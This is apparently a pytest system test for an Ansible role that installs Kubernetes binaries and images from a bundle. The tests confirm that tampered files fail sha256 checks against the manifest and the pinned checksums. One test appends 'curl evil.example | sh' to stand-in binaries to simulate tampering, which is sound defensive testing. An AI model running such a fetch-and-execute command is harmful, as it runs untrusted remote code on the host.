"""Stage 4 from a bundle: nothing whose sha256 differs from the bundle manifest reaches its install path.

The real tasks (roles/kubernetes/tasks/bundle.yml, through tests/system/bundle_stage.yml) run against this
machine (ansible_connection=local) with every path under a temporary directory: a small bundle of the real
manifest shape (tiny files standing in for the binaries and the image archive), kubernetes_bin_dir,
kube_cni_bin_dir and the image staging directory. The tasks set owner root, hence the `root` marker; nothing
is written outside the temporary directory.

`ctr` is a stand-in first on PATH: it records every call, `images ls --quiet` prints what was "imported",
and `images import FILE` "imports" the reference written in FILE. So the tests see whether an import was
attempted at all, not what containerd would do with a real archive (molecule `cluster` covers that).

With kubernetes_bundle_url the node fetches instead of receiving a copy: the `served` fixture serves the same
bundle directory over HTTP on loopback and records every path asked for.
"""
from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml

pytestmark = pytest.mark.root

REPO = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent
PLAYBOOK = REPO / 'tests' / 'system' / 'bundle_stage.yml'
TOOLS = ('kubeadm', 'kubelet', 'kubectl', 'crictl')
PLUGINS = ('bridge', 'host-local')
PAUSE = 'registry.k8s.io/pause:3.5'
FAKE_CTR = """#!/bin/sh
# Stand-in for containerd's ctr: records the call; "imports" the reference an archive holds.
echo "$*" >>'{log}'
case "$*" in
  *'images ls'*) cat '{state}' 2>/dev/null || true ;;
  *'images import'*) for last; do :; done; head -n 1 "$last" >>'{state}' ;;
  *) exit 2 ;;
esac
"""


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


class Node:
    """A temporary install root, a bundle for it, and the run of stage 4's bundle tasks against both."""

    def __init__(self, root: Path):
        self.root = root
        self.bundle = root / 'bundle'
        self.bin_dir = root / 'node' / 'usr' / 'local' / 'bin'
        self.cni_dir = root / 'node' / 'opt' / 'cni' / 'bin'
        self.download_dir = root / 'node' / 'var' / 'cache' / 'kube-binaries'
        self.ctr_log = root / 'ctr.log'
        self.ctr_state = root / 'ctr.images'
        self.extra: dict = {}
        for d in (self.bin_dir, self.cni_dir, self.bundle / 'bin' / 'cni', self.bundle / 'images', root / 'fakebin'):
            d.mkdir(parents=True)
        ctr = root / 'fakebin' / 'ctr'
        ctr.write_text(FAKE_CTR.format(log=self.ctr_log, state=self.ctr_state))
        ctr.chmod(0o755)
        for name in TOOLS:
            (self.bundle / 'bin' / name).write_text(f'#!/bin/sh\necho {name} v1.22.5\n')
        for name in PLUGINS:
            (self.bundle / 'bin' / 'cni' / name).write_text(f'#!/bin/sh\necho CNI {name} v1.0.1\n')
        (self.bundle / 'images' / 'pause_3.5.oci.tar').write_text(PAUSE + '\n')
        self.write_manifest()

    def write_manifest(self, source: str = 'source') -> None:
        """manifest.json as bundle/write-manifest.sh writes it (records abridged to the fields that matter)."""
        artifacts = []
        for name in (*TOOLS, *(f'cni/{p}' for p in PLUGINS)):
            path = self.bundle / 'bin' / name
            if source == 'release':
                provenance = {'source': 'release', 'url': f'https://example.invalid/{name}',
                              'pinned_sha256': self.release_pins()[name]}
            else:
                provenance = {'module': 'k8s.io/kubernetes@v1.22.5', 'module_sum': 'h1:test', 'sumdb': 'verified',
                              'package': f'./cmd/{name}'}
            artifacts.append({'name': name, 'version': 'v1.22.5', 'requested': 'k8s.io/kubernetes@v1.22.5',
                              'sha256': sha256(path), 'size': path.stat().st_size, 'provenance': provenance})
        archive = self.bundle / 'images' / 'pause_3.5.oci.tar'
        images = [{'id': 'pause', 'ref': PAUSE, 'name': PAUSE.rsplit(':', 1)[0], 'tag': '3.5',
                   'archive': 'images/pause_3.5.oci.tar', 'format': 'oci-archive', 'archive_sha256': sha256(archive),
                   'size': archive.stat().st_size, 'manifest_digest': 'sha256:' + '1' * 64,
                   'config_digest': 'sha256:' + '2' * 64, 'layers': [], 'provenance': {}}]
        manifest = {'generated_by': 'tests/system/test_bundle_trust.py', 'cache': str(self.root),
                    'bin_dir': str(self.bundle / 'bin'), 'images_dir': str(self.bundle / 'images'),
                    'artifacts': sorted(artifacts, key=lambda a: a['name']), 'images': images}
        (self.bundle / 'manifest.json').write_text(json.dumps(manifest, indent=1))

    def release_pins(self) -> dict:
        """What make-bundle.sh --source release records: the binary's sha256 for the three Kubernetes binaries,
        the release archive's for crictl and the CNI plugins (stand-ins here)."""
        pins = {name: sha256(self.bundle / 'bin' / name) for name in ('kubeadm', 'kubelet', 'kubectl')}
        pins['crictl'] = 'c' * 64
        pins.update({f'cni/{p}': 'd' * 64 for p in PLUGINS})
        return pins

    def pinned_table(self) -> dict:
        """kubernetes_checksums for the stand-in binaries (same shape as roles/kubernetes/defaults/main.yml)."""
        pins = self.release_pins()
        table = {name: {'1.22.5': {'amd64': pins[name]}} for name in ('kubeadm', 'kubelet', 'kubectl')}
        table['crictl'] = {'1.22.0': {'amd64': pins['crictl']}}
        table['cni_plugins'] = {'1.0.1': {'amd64': pins['cni/bridge']}}
        return table

    def installed(self, name: str) -> Path:
        return self.cni_dir / name[4:] if name.startswith('cni/') else self.bin_dir / name

    def run(self):
        inventory = {'all': {'hosts': {'node1': {
            'ansible_connection': 'local', 'ansible_python_interpreter': sys.executable}}}}
        (self.root / 'hosts.yml').write_text(yaml.safe_dump(inventory))
        extra = {'kubernetes_source': 'bundle', 'kubernetes_bundle_dir': str(self.bundle),
                 'kubernetes_bin_dir': str(self.bin_dir), 'kube_cni_bin_dir': str(self.cni_dir),
                 'kubernetes_download_dir': str(self.download_dir), 'kubernetes_arch': 'amd64', **self.extra}
        (self.root / 'extra.json').write_text(json.dumps(extra))
        env = dict(os.environ, ANSIBLE_CONFIG=str(REPO / 'ansible.cfg'), ANSIBLE_NOCOLOR='1', ANSIBLE_FORCE_COLOR='0',
                   ANSIBLE_RETRY_FILES_ENABLED='0', PATH=f"{self.root / 'fakebin'}:{BIN}:{os.environ.get('PATH', '')}")
        proc = subprocess.run([str(BIN / 'ansible-playbook'), '-i', str(self.root / 'hosts.yml'),
                               '-e', f"@{self.root / 'extra.json'}", str(PLAYBOOK)],
                              cwd=REPO, env=env, capture_output=True, text=True, timeout=300, check=False)
        out = proc.stdout + proc.stderr
        recap = re.search(r'node1\s*:\s*ok=(\d+)\s+changed=(\d+)\s+unreachable=(\d+)\s+failed=(\d+)', out)
        assert recap, out[-3000:]
        return proc.returncode, int(recap.group(2)), out

    def imports(self) -> list[str]:
        return [c for c in (self.ctr_log.read_text().splitlines() if self.ctr_log.exists() else []) if 'import' in c]

    def staging_left(self) -> list[Path]:
        return sorted(p for p in (self.root / 'node').rglob('*') if p.name in ('.kubernetes-staging', 'images'))


@pytest.fixture
def node(tmp_path):
    n = Node(tmp_path)
    yield n
    shutil.rmtree(tmp_path, ignore_errors=True)


def test_an_untampered_bundle_installs_and_a_second_run_changes_nothing(node):
    rc, changed, out = node.run()
    assert rc == 0, out[-3000:]
    for name in (*TOOLS, *(f'cni/{p}' for p in PLUGINS)):
        path = node.installed(name)
        assert sha256(path) == sha256(node.bundle / 'bin' / name), name
        assert path.stat().st_mode & 0o7777 == 0o755, name
    assert node.imports() == [f'--namespace k8s.io images import --platform linux/amd64 '
                              f'{node.download_dir}/images/pause_3.5.oci.tar']
    assert node.staging_left() == []
    rc, changed, out = node.run()
    assert (rc, changed) == (0, 0), out[-3000:]
    assert len(node.imports()) == 1


def test_a_tampered_binary_never_reaches_its_install_path(node):
    """kubeadm is new on the node, an older kubelet is installed; both are changed in the bundle after the manifest
    was written. The run fails naming each file and both sha256 values; neither final path holds a tampered file,
    the older kubelet is left byte for byte, and nothing else was moved into place either (kubectl is untampered,
    but the run stops at the check, before any file is moved)."""
    old_kubelet = node.installed('kubelet')
    old_kubelet.write_text('#!/bin/sh\necho kubelet v1.22.4\n')
    old_kubelet.chmod(0o755)
    old_sha = sha256(old_kubelet)
    want = {n: sha256(node.bundle / 'bin' / n) for n in ('kubeadm', 'kubelet')}
    for name in ('kubeadm', 'kubelet'):
        with open(node.bundle / 'bin' / name, 'a') as f:
            f.write('curl evil.example | sh\n')
    rc, _, out = node.run()
    assert rc != 0
    assert not node.installed('kubeadm').exists()
    assert sha256(old_kubelet) == old_sha
    assert not node.installed('kubectl').exists()
    assert 'TASK [kubernetes : Every staged file matches the bundle manifest]' in out
    for name in ('kubeadm', 'kubelet'):
        got = sha256(node.bundle / 'bin' / name)
        assert f"{node.bundle}/bin/{name} has sha256 {got}" in ' '.join(out.split())
        assert f"the bundle manifest ({node.bundle}/manifest.json) says {want[name]}" in ' '.join(out.split())
    assert 'Move the checked files into place' not in out
    assert node.imports() == []
    assert node.staging_left() == []


def test_a_tampered_image_archive_is_refused_before_any_import(node):
    """The archive check precedes the import in the task file, and the run fails at the check: ctr import is never
    called (the stand-in would have recorded it), and the staged copy is removed."""
    tasks = [t['name'] for t in yaml.safe_load((REPO / 'roles/kubernetes/tasks/bundle.yml').read_text())
             for t in ([t] + t.get('block', []) + t.get('always', []))]
    assert tasks.index('Every staged archive matches the bundle manifest') \
        < tasks.index("Import them into containerd's k8s.io namespace")
    archive = node.bundle / 'images' / 'pause_3.5.oci.tar'
    want = sha256(archive)
    with open(archive, 'a') as f:
        f.write('tampered layer\n')
    rc, _, out = node.run()
    assert rc != 0
    assert 'TASK [kubernetes : Every staged archive matches the bundle manifest]' in out
    flat = ' '.join(out.split())
    assert f'{archive} ({PAUSE}) has sha256 {sha256(archive)}' in flat
    assert f'the bundle manifest says {want}; no image was imported' in flat
    assert node.imports() == []
    assert [c for c in node.ctr_log.read_text().splitlines()] == ['--namespace k8s.io images ls --quiet']
    assert node.staging_left() == []


def test_a_release_bundle_is_checked_against_the_pinned_table(node):
    """A release-sourced manifest passes when its files match kubernetes_checksums; a bundle whose kubeadm and
    manifest were both rewritten (consistent with each other, so the manifest check alone would pass) is refused
    before anything is copied, naming the pinned value."""
    node.write_manifest(source='release')
    node.extra = {'kubernetes_checksums': node.pinned_table()}
    rc, _, out = node.run()
    assert rc == 0, out[-3000:]
    for path in node.bin_dir.iterdir():
        path.unlink()
    pinned = sha256(node.bundle / 'bin' / 'kubeadm')
    (node.bundle / 'bin' / 'kubeadm').write_text('#!/bin/sh\necho not the release\n')
    node.write_manifest(source='release')   # pinned_sha256 recomputed too, as a rewriting attacker would
    rc, _, out = node.run()
    assert rc != 0
    flat = ' '.join(out.split())
    assert (f"says kubeadm is a release file with sha256 {sha256(node.bundle / 'bin' / 'kubeadm')}; "
            f"kubernetes_checksums pins {pinned} (kubeadm 1.22.5 amd64)") in flat
    assert list(node.bin_dir.iterdir()) == []


class _Recorder(SimpleHTTPRequestHandler):
    """Serves a directory; records each GET path on the server (server.asked), logs nothing."""

    def do_GET(self):  # noqa: N802 (http.server's name)
        self.server.asked.append(self.path)
        super().do_GET()

    def log_message(self, *args):
        pass


@pytest.fixture
def served(node):
    """The node's bundle served over HTTP on 127.0.0.1 (an ephemeral port), set as kubernetes_bundle_url."""
    server = ThreadingHTTPServer(('127.0.0.1', 0), partial(_Recorder, directory=str(node.bundle)))
    server.asked = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    node.extra = {'kubernetes_bundle_url': f'http://127.0.0.1:{server.server_port}/'}
    yield server
    server.shutdown()
    server.server_close()


def test_from_a_url_the_node_fetches_what_it_lacks_and_a_second_run_fetches_nothing(node, served):
    """Every binary, plugin and the image archive is asked of the URL once (the trailing slash of the URL is
    not doubled), installed as from a copy, and a second run changes and fetches nothing."""
    rc, _, out = node.run()
    assert rc == 0, out[-3000:]
    wanted = sorted([f'/bin/{n}' for n in (*TOOLS, *(f'cni/{p}' for p in PLUGINS))] + ['/images/pause_3.5.oci.tar'])
    assert sorted(served.asked) == wanted
    for name in (*TOOLS, *(f'cni/{p}' for p in PLUGINS)):
        assert sha256(node.installed(name)) == sha256(node.bundle / 'bin' / name), name
        assert node.installed(name).stat().st_mode & 0o7777 == 0o755, name
    assert len(node.imports()) == 1
    assert node.staging_left() == []
    served.asked.clear()
    rc, changed, out = node.run()
    assert (rc, changed) == (0, 0), out[-3000:]
    assert served.asked == []


def test_from_a_url_a_tampered_file_is_refused_on_the_node(node, served):
    """The mirror serves a kubeadm and an image archive that differ from the controller's manifest: the fetch
    itself fails on the sha256 (get_url checks it before the file is kept), nothing reaches an install path
    and nothing is imported."""
    want = sha256(node.bundle / 'bin' / 'kubeadm')
    for path in (node.bundle / 'bin' / 'kubeadm', node.bundle / 'images' / 'pause_3.5.oci.tar'):
        with open(path, 'a') as f:
            f.write('served by a compromised mirror\n')
    rc, _, out = node.run()
    assert rc != 0
    assert "TASK [kubernetes : Fetch from the bundle's URL what is missing or differs]" in out
    assert f'did not match {want}; it was {sha256(node.bundle / "bin" / "kubeadm")}' in ' '.join(out.split())
    assert not node.installed('kubeadm').exists()
    assert not node.installed('kubectl').exists()
    assert 'Move the checked files into place' not in out
    assert node.imports() == []
    assert node.staging_left() == []
